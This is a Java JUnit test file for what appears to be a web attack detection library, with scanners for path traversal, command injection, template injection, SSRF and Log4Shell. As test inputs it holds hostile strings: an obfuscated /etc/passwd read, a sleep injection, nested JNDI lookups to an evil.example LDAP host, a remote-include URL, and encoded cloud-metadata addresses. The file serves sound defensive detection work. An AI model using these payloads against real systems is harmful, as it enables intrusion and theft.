package dev.mimamori.detect.web;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** The simple scanners: paths, commands, PHP, SSRF and Log4Shell. */
class ScannersTest {

  @Test
  void traversalSpellingTurnsTextualHexIntoSlashesAndDots() {
    assertThat(PathAttacks.pathSpelling("0x2e0x2e0x2fetc")).isEqualTo("../etc");
  }

  @Test
  void dotsInsideAFileNameAreNotTraversal() {
    assertThat(PathAttacks.analyze("archive..tar.gz", null, false)).isNull();
  }

  @Test
  void threeDotsOpeningASegmentAreTraversal() {
    assertThat(PathAttacks.analyze("/.../.../etc", null, false).attackClass())
        .isEqualTo(AttackClass.TRAVERSAL);
  }

  @Test
  void remoteUrlInAnIncludeStyleParameterIsRfi() {
    assertThat(PathAttacks.analyze("http://evil.example/x.txt", "page", false).attackClass())
        .isEqualTo(AttackClass.RFI);
  }

  @Test
  void remoteUrlInAnOrdinaryParameterIsNothing() {
    assertThat(PathAttacks.analyze("http://example.com/", "return_url", false)).isNull();
  }

  @Test
  void remoteUrlInTheRefererIsNothing() {
    assertThat(PathAttacks.analyze("http://example.com/?", null, true)).isNull();
  }

  @Test
  void envFileInsideANameIsNothing() {
    assertThat(PathAttacks.analyze("my.environment", null, false)).isNull();
  }

  @Test
  void shellSpellingRemovesQuotesAndReadsIfsAsSpace() {
    assertThat(CommandInjection.shellSpelling("c'a't${IFS}/etc/passwd"))
        .isEqualTo("cat /etc/passwd");
  }

  @Test
  void ampersandBetweenWordsIsNotACommand() {
    assertThat(CommandInjection.analyze("Tom & id", false)).isNull();
  }

  @Test
  void pipeThenAnEverydayWordIsNotACommand() {
    assertThat(CommandInjection.analyze("Rock | cat lovers", false)).isNull();
  }

  @Test
  void localeInAUserAgentIsNotACommand() {
    assertThat(CommandInjection.analyze("Opera/9.80 (Android; Opera Mini/7; U; id) Presto", true))
        .isNull();
  }

  @Test
  void sleepWithANumberAfterASeparatorIsACommand() {
    assertThat(CommandInjection.analyze("x; sleep 10", false)).isNotNull();
  }

  @Test
  void operatingSystemInParenthesesIsNotPhp() {
    assertThat(PhpInjection.analyze("operating system (Windows)")).isNull();
  }

  @Test
  void twigArithmeticProbeIsPhpInjection() {
    assertThat(PhpInjection.analyze("{{7*'7'}}").reason()).isEqualTo("template expression probe");
  }

  @Test
  void ipv4ReadsOneDecimalNumber() {
    assertThat(Ssrf.ipv4("2852039166")).isEqualTo(0xA9FEA9FEL);
  }

  @Test
  void ipv4ReadsOctalParts() {
    assertThat(Ssrf.ipv4("0251.0376.0251.0376")).isEqualTo(0xA9FEA9FEL);
  }

  @Test
  void ipv4ReadsMixedHexAndShortForms() {
    assertThat(Ssrf.ipv4("0xa9.254.43518")).isEqualTo(0xA9FEA9FEL);
  }

  @Test
  void ipv4RejectsNames() {
    assertThat(Ssrf.ipv4("example.com")).isEqualTo(-1L);
  }

  @Test
  void ordinaryAddressIsNotSsrf() {
    assertThat(Ssrf.analyze("http://203.0.113.9/")).isNull();
  }

  @Test
  void metadataHostNameIsSsrf() {
    assertThat(Ssrf.analyze("http://metadata.google.internal./computeMetadata/v1/")).isNotNull();
  }

  @Test
  void nestedLookupsResolveToJndi() {
    assertThat(Log4Shell.analyze("${${lower:J}${upper:n}${::-d}${date:'i'}:ldap://x}")).isZero();
  }

  @Test
  void unclosedJndiLookupStillCounts() {
    assertThat(Log4Shell.analyze("x ${jndi:ldap://evil.example/a")).isEqualTo(2);
  }

  @Test
  void otherLookupsAreNotLog4Shell() {
    assertThat(Log4Shell.analyze("${java:version} ${env:HOME}")).isEqualTo(-1);
  }

  @Test
  void deepNestingIsReadAsText() {
    assertThat(Log4Shell.analyze("${".repeat(10_000) + "}".repeat(10_000))).isEqualTo(-1);
  }
}
